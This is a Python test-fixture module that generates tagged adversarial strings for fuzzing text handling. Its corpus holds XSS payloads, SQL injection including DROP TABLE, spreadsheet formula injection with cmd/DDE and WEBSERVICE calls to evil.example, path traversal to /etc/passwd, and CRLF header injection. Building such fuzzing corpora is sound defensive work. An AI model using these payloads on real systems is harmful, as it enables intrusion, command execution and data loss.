"""Strings that try to be more than text: each carries a mark at its end, by which it is known wherever it arrives."""

from collections.abc import Iterator
from random import Random

MARK = "Ωx"
"""Nothing of ours holds it."""
ELSEWHERE = "evil.example"

_MARKDOWN = (
    "**bold**",
    "# heading",
    "> quote",
    "- item\n- item",
    "| a | b |\n|---|---|\n| c | d |",
    "`code`",
    "```\ncode\n```",
    ":material/verified:",
    ":green-badge[Certified]",
    ":red[late]",
    ":rainbow[x]",
    "$\\href{https://evil.example}{x}$",
    "$$\\int$$",
    "[link](https://evil.example)",
    "[link](javascript:alert(1))",
    "![](https://evil.example/a.png)",
    "![x][y]\n\n[y]: https://evil.example/a.png",
    "<https://evil.example>",
    "https://evil.example/auto",
    "www.evil.example",
    "mailto:a@evil.example",
    "&lt;script&gt;",
    "&#60;script&#62;alert(1)",
)
_HTML = (
    "<script>window.taken=1</script>",
    "<img src=x onerror=window.taken=1>",
    "<img src=https://evil.example/a.png>",
    "<svg onload=window.taken=1>",
    "<iframe src=https://evil.example></iframe>",
    "<a href=javascript:window.taken=1>x</a>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/a.css'</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=a>",
    "</title></script></style></textarea><img src=x onerror=window.taken=1>",
    "'\"><img src=x onerror=window.taken=1>",
    '" onmouseover="window.taken=1',
    "<!--",
    "]]>",
    "<details open ontoggle=window.taken=1>",
    "{{7*7}}",
    "{% raw %}",
    "${7*7}",
    "%(name)s",
    "{name}",
    "{0.__class__}",
)
_FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '=HYPERLINK("https://evil.example";"x")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("https://evil.example")',
    '=IMPORTXML("https://evil.example","//a")',
    "{=1+1}",
    '=DDE("cmd";"/C calc";"a")',
    "'=1+1",
    '"=1+1"',
    ";=1+1",
    "x;=1+1",
    'x",=1+1',
    "x\r\n=1+1",
    "x\n=1+1",
)
_LETTERS = (
    "\u202eevisrever",
    "\u2066isolated",
    "\u200f\u200e",
    "\ufeffmark",
    "a\u0301\u0302\u0303\u0304" * 40,
    "z\u0489" * 30,
    "\u200b\u200b\u200b",
    "\U000e0041\U000e0042",
    "🏳️‍🌈" * 20,
    "مرحبا",
    "שלום",
    "ﷺ" * 20,
    "𝔉𝔯𝔞𝔨",
    "ＦＵＬＬ",
    "\x0b\x0c\x1b[31m",
    "\x07\x08",
    "\x7f",
    "a\u2028b\u2029c",
    "_x0008_",
    "word " * 2_000,
    "W" * 10_000,
    "ř" * 10_000,
    "-" * 300,
    "\\" * 50,
)
_DATABASE = (
    "' OR 1=1 --",
    "'; DROP TABLE people; --",
    "%",
    "_",
    "%_%",
    "\\%",
    "*",
    "') UNION SELECT email FROM people --",
    "#set page(fill: red)",
    '#eval("1")',
    '#link("https://evil.example")[x]',
    "$ x $",
    "@cite",
    "\\begin{document}",
    "../../etc/passwd",
    "file:///etc/passwd",
    "C:\\con\\nul",
    "\r\nSet-Cookie: a=b",
    "\r\nBcc: a@evil.example",
    "null",
    "undefined",
    "NaN",
    "true",
    "0",
)
BASES = (*_MARKDOWN, *_HTML, *_FORMULAS, *_LETTERS, *_DATABASE)


def strings(n: int, seed: int = 6) -> Iterator[str]:
    """`n` different ones: each base by itself, then bases put together."""
    chance = Random(seed)
    for number in range(n):
        base = (
            BASES[number] if number < len(BASES) else "".join(short(chance) for _ in range(chance.choice((2, 2, 3))))
        )
        yield f"{base}{MARK}{number:04}"


def short(chance: Random) -> str:
    """One that does not fill a page by itself; the long ones come once each."""
    while len(base := chance.choice(BASES)) > 400:
        pass
    return base
